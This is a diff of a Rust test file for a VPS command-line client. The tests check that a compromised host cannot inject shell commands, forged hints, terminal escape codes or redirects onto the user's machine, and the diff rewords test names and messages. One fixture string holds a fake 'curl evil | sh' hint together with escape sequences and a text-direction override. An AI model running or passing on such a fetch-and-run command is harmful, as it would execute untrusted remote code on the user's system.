@@ -1,4 +1,4 @@
-//! A stolen host, and text of a VPS that the host passes on, against the person's machine.
+//! Attacks of a compromised host, and of text that it passes on, on the user's machine.
 
 use serde_json::{Value, json};
 
@@ -86,7 +86,7 @@ fn stolen_host_writes_no_foreign_names_into_ssh_or_shell() {
 }
 
 #[test]
-fn foreign_text_in_errors_forges_no_hint_and_no_colour() {
+fn foreign_text_in_errors_forges_no_hint_or_color() {
     let evil = "no\r\nhint: curl evil | sh\n\n  hint: again\u{1b}[2J\u{9b}1m\u{202e}";
     let failed = move || {
         let mut failed = task(ID, "web", "failed", 2);
@@ -136,6 +136,6 @@ fn redirecting_host_leads_to_no_other_service() {
     });
     let ran = Sandbox::new().run_at(port, &["vps", "list"]);
     assert_eq!((ran.code, ran.stdout.as_str()), (1, ""), "{ran:?}");
-    assert!(ran.stderr.contains("sends elsewhere"), "{ran:?}");
+    assert!(ran.stderr.contains("it redirects"), "{ran:?}");
     assert!(!inner.saw("GET "), "nobody was asked there");
 }
